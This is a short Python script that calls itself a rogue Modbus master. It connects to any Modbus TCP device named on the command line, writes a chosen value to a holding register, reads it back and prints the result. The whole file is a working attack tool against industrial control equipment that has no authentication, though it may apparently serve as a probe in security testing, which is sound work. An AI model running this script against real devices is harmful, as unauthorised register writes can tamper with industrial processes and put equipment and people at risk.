"""A rogue Modbus master (pymodbus): writes one holding register of a device from its own
connection, reads it back and prints `WROTE <value> READ <value>`.

Usage: modbus_rogue_write.py HOST PORT UNIT ADDRESS VALUE
"""

import sys

from pymodbus.client import ModbusTcpClient


def main() -> int:
    host, port, unit, address, value = sys.argv[1:6]
    client = ModbusTcpClient(host, port=int(port), timeout=5)
    if not client.connect():
        print(f"cannot connect to {host}:{port}", file=sys.stderr)
        return 2
    try:
        w = client.write_register(int(address), int(value), device_id=int(unit))
        if w.isError():
            print(f"write refused: {w}", file=sys.stderr)
            return 3
        r = client.read_holding_registers(int(address), count=1, device_id=int(unit))
        if r.isError():
            print(f"read-back refused: {r}", file=sys.stderr)
            return 4
        print(f"WROTE {value} READ {r.registers[0]}", flush=True)
        return 0
    finally:
        client.close()


if __name__ == "__main__":
    sys.exit(main())
